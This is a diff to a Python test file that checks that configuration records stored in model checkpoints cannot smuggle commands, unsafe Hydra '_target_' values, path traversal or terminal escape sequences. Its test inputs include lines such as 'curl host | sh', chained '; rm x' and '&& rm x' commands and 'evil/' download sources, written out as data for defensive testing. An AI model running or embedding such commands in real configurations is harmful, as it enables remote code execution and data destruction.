@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import copy
+import reprlib
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -13,11 +14,11 @@ from hydra import compose, initialize_config_dir
 from omegaconf import OmegaConf
 from trained import ROOT, composed
 
-from odise_pl.configuration import adopt, record
+from odise_pl.configuration import adopt, check_weights, record
 from odise_pl.errors import SettingError, UserError
 from odise_pl.lightning_module import describe
 from odise_pl.predict import load_segmenter
-from odise_pl.recorded import TARGETS, is_command, keep_section, refuse_strange
+from odise_pl.recorded import COMMANDS, TARGETS, keep_section, refuse_strange
 from odise_pl.weights import WeightsError
 
 CONF = ROOT / "conf"
@@ -35,13 +36,15 @@ def targets(values: Any, place: str = "") -> set[tuple[str, str]]:
 
 def test_every_choice_of_ours_and_no_other_target_is_allowed() -> None:
     found: set[tuple[str, str]] = set()
+    commands: set[str] = set()
     with initialize_config_dir(str(CONF), version_base="1.3"):
         for group in GROUPS:
             for path in (CONF / group).glob("*.yaml"):
                 kept = record(compose("train", ["run=x", "run_dir=x", f"{group}={path.stem}"]))
                 refuse_strange(kept, (), "ours")
-                assert all(is_command(s["source"]) for s in kept["config"].values() if "source" in s)
+                commands |= {s["source"] for s in kept["config"].values() if "source" in s}
                 found |= targets(kept["config"])
+    assert commands == COMMANDS
     assert found == {(place, name) for place, names in TARGETS.items() for name in names}
 
 
@@ -67,6 +70,9 @@ def put(*path: str, value: Any) -> Change:
     return change
 
 
+NESTED: Any = []
+for _ in range(5000):
+    NESTED = [NESTED]
 MKDIR = {"_target_": "os.mkdir", "path": "PROOF"}
 HOSTILE = [
     (("config", "model", "_target_"), "os.mkdir"),
@@ -189,6 +195,9 @@ def test_a_checkpoint_downloads_nothing(tmp_path: Path, name: str) -> None:
     [
         "curl host | sh",
         "hf download a/b --local-dir ~",
+        "hf download evil/sd sd-v1-3.ckpt --local-dir ${paths.weights}",
+        "hf download CompVis/stable-diffusion-v-1-3-original other.ckpt --local-dir ${paths.weights}",
+        "python -m odise_pl.toyworld.pretrain vae",
         "hf download a/b c --local-dir ${paths.weights}; rm x",
         "hf download a/b --local-dir ${paths.weights}/../x",
         "python -m odise_pl.toyworld.pretrain clip && rm x",
@@ -199,9 +208,68 @@ def test_a_checkpoint_downloads_nothing(tmp_path: Path, name: str) -> None:
 )
 def test_no_command_of_a_checkpoint_is_shown(tmp_path: Path, command: Any) -> None:
     odd = kept(tmp_path)
-    odd["config"]["backbone"]["source"] = command
-    shown = adopt(composed("evaluate", tmp_path, []), odd, [], "c.ckpt").backbone.source
-    assert str(command) not in shown
+    weights = str(tmp_path / "gone.ckpt")
+    odd["config"]["backbone"] |= {"source": command, "weights": weights}
+    merged = adopt(composed("evaluate", tmp_path, ["trainer=cpu"]), odd, [], "c.ckpt")
+    with pytest.raises(SettingError, match=rf"backbone\.weights={weights} is not there; set ") as error:
+        check_weights(merged)
+    assert str(command) not in str(error.value).replace(str(tmp_path), "")
+
+
+DAMAGED: list[tuple[tuple[str, ...], Any]] = [
+    (("backbone", "weights"), "${backbone.weights}"),
+    (("backbone", "weights"), "${clip.weights}${backbone.weights}"),
+    (("backbone", "weights"), "${paths}"),
+    (("backbone", "weights"), "${paths.nowhere}/x.ckpt"),
+    (("backbone", "weights"), "???"),
+    (("backbone", "weights"), "a\nb.ckpt"),
+    (("backbone", "weights"), "\x1b[2Jb.ckpt"),
+    (("backbone", "architecture"), "${paths}"),
+    (("backbone", "timesteps"), "${backbone.timesteps}"),
+    (("model", "head"), "${paths}"),
+    (("model", "head"), "${model}"),
+    (("model", "head"), "x"),
+    (("model", "head"), "${backbone.architecture}"),
+    (("model", "head"), None),
+    (("model", "backbone"), "${clip}"),
+    (("model", "clip"), 5),
+    (("model", "captioner"), {"weights": "x"}),
+    (("clip",), {}),
+    (("backbone", "more"), NESTED),
+]
+
+
+@pytest.mark.parametrize(("path", "value"), DAMAGED, ids=lambda value: reprlib.repr(value))
+def test_a_record_that_describes_no_network_is_named(
+    tmp_path: Path, path: tuple[str, ...], value: Any
+) -> None:
+    odd = kept(tmp_path)
+    put(*path, value=value)({"odise": {"record": odd["config"]}})
+    with pytest.raises(SettingError, match=rf"c\.ckpt.*{path[0]}|c\.ckpt.* damaged") as error:
+        adopt(composed("evaluate", tmp_path, []), odd, [], "c.ckpt")
+    assert str(error.value).isprintable()
+
+
+@pytest.mark.parametrize("name", ["backbone", "clip", "captioner"])
+@pytest.mark.parametrize("absent", ["weights", "source", None])
+def test_weights_are_named_by_the_record_or_the_user(tmp_path: Path, name: str, absent: str | None) -> None:
+    odd = kept(tmp_path, "captioner=blip", "captioner.on_the_fly=true")
+    section = odd["config"][name]
+    section["weights"] = "evil/blip.bin" if absent == "source" else "x" * 5000
+    section.pop(absent, None)
+    config = composed("evaluate", tmp_path, [])
+    with pytest.raises(SettingError, match=rf"{name}\.weights"):
+        check_weights(adopt(config, odd, [], "c.ckpt"))
+    if absent == "weights":
+        named = composed("evaluate", tmp_path, [f"++{name}.weights={tmp_path}"])
+        assert adopt(named, odd, [f"{name}.weights={tmp_path}"], "c.ckpt")[name].weights == str(tmp_path)
+
+
+def test_a_captioner_is_never_random(tmp_path: Path) -> None:
+    odd = kept(tmp_path, "captioner=blip", "captioner.on_the_fly=true")
+    odd["config"]["captioner"]["weights"] = "random"  # an id of the hub like any other
+    with pytest.raises(SettingError, match=r"c\.ckpt.*captioner\.weights=random"):
+        adopt(composed("evaluate", tmp_path, []), odd, [], "c.ckpt")
 
 
 def test_a_record_holds_no_interpolation_that_is_not_plain(monkeypatch: pytest.MonkeyPatch) -> None:
